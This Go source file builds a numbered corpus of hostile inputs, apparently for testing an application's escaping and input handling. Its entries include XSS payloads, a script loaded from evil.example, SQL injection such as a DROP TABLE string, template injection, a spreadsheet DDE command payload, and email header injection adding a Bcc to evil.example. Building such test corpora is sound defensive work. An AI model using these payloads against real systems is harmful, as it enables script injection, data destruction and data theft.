package main

import (
	"fmt"
	"strings"
)

// payload is a hostile text. Each sets window.lwx or carries the attribute lwx
// or an element lwx-…, by which it is found out if it comes alive.
type payload struct {
	text  string
	loose bool // may be refused, or come back with a character replaced
}

// payloads are the corpus. The number in front makes each one recognisable.
func payloads() []payload {
	var all []payload
	for i, text := range []string{
		`<script>window.lwx=1</script>`, `<script src=//evil.example/lwx.js></script>`, `</script><script>window.lwx=1</script>`,
		`<img src=x onerror=window.lwx=1>`, `<img lwx src=x onerror="window.lwx=1">`, `<svg onload=window.lwx=1>`, `<svg><script lwx>window.lwx=1</script></svg>`,
		`"><img lwx src=x onerror=window.lwx=1>`, `'><img lwx src=x onerror=window.lwx=1>`, `" autofocus onfocus="window.lwx=1" lwx="`, `' onmouseover='window.lwx=1' lwx='`,
		`</textarea><script>window.lwx=1</script>`, `</title><script>window.lwx=1</script>`, `</option></select><lwx-a onclick=window.lwx=1>`,
		`--><script>window.lwx=1</script><!--`, `]]><script>window.lwx=1</script>`, `<![CDATA[<script>window.lwx=1</script>]]>`,
		`<iframe srcdoc="<script>parent.lwx=1</script>"></iframe>`, `<object data="javascript:window.lwx=1"></object>`, `<a href="javascript:window.lwx=1" lwx>here</a>`,
		`javascript:window.lwx=1//`, `data:text/html,<script>window.lwx=1</script>`, `<base href="//evil.example/" lwx>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`,
		`<style lwx>*{display:none}</style>`, `<form action="//evil.example/" lwx><button>Go</button></form>`, `<math><mtext><lwx-b></mtext></math>`,
		`{{constructor.constructor('window.lwx=1')()}}`, `${window.lwx=1} <%= 7*7 %> #{7*7}`, `%3Cscript%3Ewindow.lwx=1%3C/script%3E`, `&lt;script&gt;window.lwx=1&lt;/script&gt; &#60;lwx-c&#62;`,
		`'; DROP TABLE people; --`, `" OR "1"="1`, `%' AND 1=CAST((SELECT 1) AS INT) -- _%`, `\u003cscript\u003ewindow.lwx=1\u003c/script\u003e`,
		`=HYPERLINK("http://evil.example","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "right \u202eto left\u202c and \u2066isolated\u2069", "zero\u200bwidth\ufeff and \u2028 line",
		"👩🏽‍🦽 🏴󠁧󠁢󠁷󠁬󠁳󠁿 e\u0301 ﷽",
	} {
		all = append(all, payload{text: fmt.Sprintf("q%02dz %s", i, text)})
	}
	for i, text := range []string{"line one\r\nBcc: all@evil.example\r\n\r\n<lwx-d>", "nul \x00 byte <lwx-e>", strings.Repeat("<lwx-f>long</lwx-f>", 800), "bad utf-8 \xff\xfe <lwx-g>", "tab\tand\vbell\a<lwx-h>"} {
		all = append(all, payload{text: fmt.Sprintf("q%02dz %s", 90+i, text), loose: true})
	}
	return all
}
